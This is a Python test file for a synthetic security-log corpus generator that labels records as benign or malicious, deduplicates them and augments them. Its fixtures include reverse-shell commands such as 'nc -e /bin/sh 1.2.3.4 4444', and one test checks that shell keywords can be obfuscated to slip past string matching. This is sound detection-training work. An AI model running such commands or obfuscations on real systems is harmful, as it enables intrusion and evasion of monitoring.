import math

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aisoc.corpus import (
    AugmentOp,
    Channel,
    Label,
    LogRecord,
    Origin,
    ScenarioConfig,
    augment,
    dedup_near_identical,
    generate_corpus,
    jaccard,
    message_tokens,
    mutate_message,
)
from aisoc.errors import ConfigError


def malicious_runs(records):
    """Maximal contiguous runs of MALICIOUS records, in order."""
    runs, current = [], []
    for rec in records:
        if rec.label is Label.MALICIOUS:
            current.append(rec)
        elif current:
            runs.append(current)
            current = []
    if current:
        runs.append(current)
    return runs


class TestGenerate:
    def test_no_attacks_means_all_benign(self):
        records = generate_corpus(ScenarioConfig(benign_hosts=1, attack_sessions=0,
                                                 duration_s=60, seed=7))
        assert records
        assert all(r.label is Label.BENIGN for r in records)

    def test_fixed_seed_is_deterministic(self):
        scenario = ScenarioConfig(benign_hosts=2, attack_sessions=3, duration_s=600, seed=7)
        assert generate_corpus(scenario) == generate_corpus(scenario)

    def test_three_sessions_three_contiguous_runs_with_shell_spawn(self):
        records = generate_corpus(ScenarioConfig(benign_hosts=2, attack_sessions=3,
                                                 duration_s=600, seed=7))
        runs = malicious_runs(records)
        assert len(runs) == 3
        for run in runs:
            assert any(r.channel is Channel.PROCESS and "bash" in r.message for r in run)

    def test_output_is_time_ordered(self):
        records = generate_corpus(ScenarioConfig(benign_hosts=3, attack_sessions=2,
                                                 duration_s=400, seed=5))
        stamps = [r.timestamp for r in records]
        assert stamps == sorted(stamps)

    @settings(max_examples=25, deadline=None)
    @given(seed=st.integers(0, 10_000), sessions=st.integers(0, 5))
    def test_attack_session_count_matches_request(self, seed, sessions):
        records = generate_corpus(ScenarioConfig(benign_hosts=2, attack_sessions=sessions,
                                                 duration_s=300, seed=seed))
        assert len(malicious_runs(records)) == sessions

    @pytest.mark.parametrize("kwargs", [
        {"benign_hosts": 0, "attack_sessions": 1, "duration_s": 60},
        {"benign_hosts": 1, "attack_sessions": -1, "duration_s": 60},
        {"benign_hosts": 1, "attack_sessions": 0, "duration_s": 0},
        {"benign_hosts": 1, "attack_sessions": 50, "duration_s": 10},
    ])
    def test_invalid_scenario_is_config_error(self, kwargs):
        with pytest.raises(ConfigError):
            generate_corpus(ScenarioConfig(seed=1, **kwargs))


def _rec(ts, message, label=Label.BENIGN):
    return LogRecord(timestamp=ts, host="h1", channel=Channel.AUTH,
                     message=message, label=label)


class TestDedup:
    def test_exact_duplicate_removed_at_threshold_one(self):
        records = [_rec(0, "Accepted password for root"),
                   _rec(5, "Accepted password for root")]
        assert dedup_near_identical(records, 1.0) == [records[0]]

    def test_near_but_not_identical_kept(self):
        # token sets differ in one of five tokens: Jaccard 3/5 = 0.6 < 0.9
        records = [_rec(0, "Accepted password for root"),
                   _rec(5, "Accepted password for admin")]
        a = message_tokens(records[0].message)
        b = message_tokens(records[1].message)
        assert jaccard(a, b) == pytest.approx(3 / 5)
        assert dedup_near_identical(records, 0.9) == records

    def test_empty_input(self):
        assert dedup_near_identical([], 0.9) == []

    def test_mixed_labels_never_merged(self):
        records = [_rec(0, "curl http://x", Label.BENIGN),
                   _rec(5, "curl http://x", Label.MALICIOUS)]
        assert dedup_near_identical(records, 0.5) == records

    def test_keeps_earliest_and_preserves_time_order(self):
        records = [_rec(30, "session opened for user bob"),
                   _rec(10, "Accepted password for root"),
                   _rec(20, "Accepted password for root")]
        kept = dedup_near_identical(records, 1.0)
        assert [r.timestamp for r in kept] == [10, 30]

    @settings(max_examples=50, deadline=None)
    @given(st.lists(st.tuples(st.integers(0, 100),
                              st.text(alphabet="ab cd", min_size=1, max_size=12)),
                    max_size=12),
           st.floats(0.1, 1.0))
    def test_idempotent(self, raw, threshold):
        records = [_rec(ts, msg or "x") for ts, msg in raw if msg.strip()]
        once = dedup_near_identical(records, threshold)
        assert dedup_near_identical(once, threshold) == once


class TestAugment:
    def test_rate_zero_is_identity(self):
        records = generate_corpus(ScenarioConfig(benign_hosts=1, attack_sessions=1,
                                                 duration_s=60, seed=3))
        out = augment(records, [AugmentOp.CHAR_NOISE], rate=0.0, seed=1)
        assert out == records
        assert not any(r.origin is Origin.AUGMENTED for r in out)

    def test_char_noise_respects_edit_budget(self):
        message = "a" * 40
        record = _rec(0, message)
        out = augment([record], [AugmentOp.CHAR_NOISE], rate=1.0, seed=9)
        variant = [r for r in out if r.origin is Origin.AUGMENTED][0]
        assert levenshtein(variant.message, message) <= 6  # ceil(0.15 * 40)

    def test_keyword_obfuscation_preserves_label(self):
        record = _rec(0, "bash -i reverse shell", Label.MALICIOUS)
        out = augment([record], [AugmentOp.KEYWORD_OBFUSCATION], rate=1.0, seed=4)
        variant = [r for r in out if r.origin is Origin.AUGMENTED][0]
        assert variant.message != record.message
        assert "bash" not in variant.message
        assert variant.label is Label.MALICIOUS

    def test_empty_op_set_rejected(self):
        with pytest.raises(ConfigError):
            augment([_rec(0, "x y")], [], rate=0.5, seed=1)

    def test_replace_mode_keeps_length(self):
        records = [_rec(i, f"session opened for user u{i}") for i in range(20)]
        out = augment(records, [AugmentOp.CHAR_NOISE], rate=1.0, seed=2, replace=True)
        assert len(out) == len(records)
        assert all(r.origin is Origin.AUGMENTED for r in out)

    def test_append_mode_interleaves_variants_after_sources(self):
        records = [_rec(i, f"msg number {i} here") for i in range(10)]
        out = augment(records, [AugmentOp.CHAR_NOISE], rate=1.0, seed=2)
        assert len(out) == 20
        assert [r for r in out if r.origin is not Origin.AUGMENTED] == records

    @settings(max_examples=40, deadline=None)
    @given(seed=st.integers(0, 9999), rate=st.floats(0.0, 1.0),
           ops=st.sets(st.sampled_from(list(AugmentOp)), min_size=1))
    def test_labels_always_preserved(self, seed, rate, ops):
        records = [_rec(0, "Accepted password for root", Label.BENIGN),
                   _rec(1, "bash -i whoami", Label.MALICIOUS),
                   _rec(2, "nc -e /bin/sh 1.2.3.4 4444", Label.MALICIOUS)]
        out = augment(records, ops, rate=rate, seed=seed)
        by_ts = {}
        for r in out:
            by_ts.setdefault(r.timestamp, set()).add(r.label)
        for ts, labels in by_ts.items():
            assert labels == {records[ts].label}

    @settings(max_examples=40, deadline=None)
    @given(seed=st.integers(0, 9999),
           message=st.text(min_size=1, max_size=80).filter(lambda s: s.strip()))
    def test_char_noise_bound_property(self, seed, message):
        import random
        from aisoc.corpus.augment import char_noise
        noisy = char_noise(message, random.Random(seed))
        assert levenshtein(noisy, message) <= math.ceil(0.15 * len(message))

    def test_obfuscation_tables_cover_shell_keywords(self):
        import random
        mutated = mutate_message("nc -e /bin/bash", [AugmentOp.KEYWORD_OBFUSCATION],
                                 random.Random(0))
        assert "nc" not in mutated.split()
        assert "bash" not in mutated


def levenshtein(a: str, b: str) -> int:
    prev = list(range(len(b) + 1))
    for i, ca in enumerate(a, start=1):
        cur = [i]
        for j, cb in enumerate(b, start=1):
            cur.append(min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (ca != cb)))
        prev = cur
    return prev[-1]
